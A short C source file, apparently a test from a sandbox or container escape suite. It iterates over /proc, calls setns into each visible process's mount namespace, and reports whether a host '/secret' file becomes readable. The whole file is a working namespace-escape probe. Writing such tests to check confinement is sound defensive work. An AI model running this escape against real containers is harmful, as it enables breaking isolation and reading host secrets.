// SPDX-License-Identifier: GPL-2.0-only
// nsenter(1) with each mount namespace that any visible process has: one that
// came from outside may still be in that of the host.
#include <dirent.h>
#include <sched.h>

#include "attack.h"

int main(void)
{
	DIR *proc = opendir("/proc");
	struct dirent *entry;
	int fd, last = ENOENT;
	char name[300];

	NEED(proc);
	while ((entry = readdir(proc))) {
		snprintf(name, sizeof(name), "/proc/%s/ns/mnt", entry->d_name);
		if (!atoi(entry->d_name))
			continue;
		fd = open(name, O_RDONLY);
		if (fd >= 0 && !setns(fd, CLONE_NEWNS) &&
		    file_has_secret(AT_FDCWD))
			worked("/secret of the host is read");
		last = errno;
		if (fd >= 0)
			close(fd);
	}
	errno = last;
	refused("setns");
}
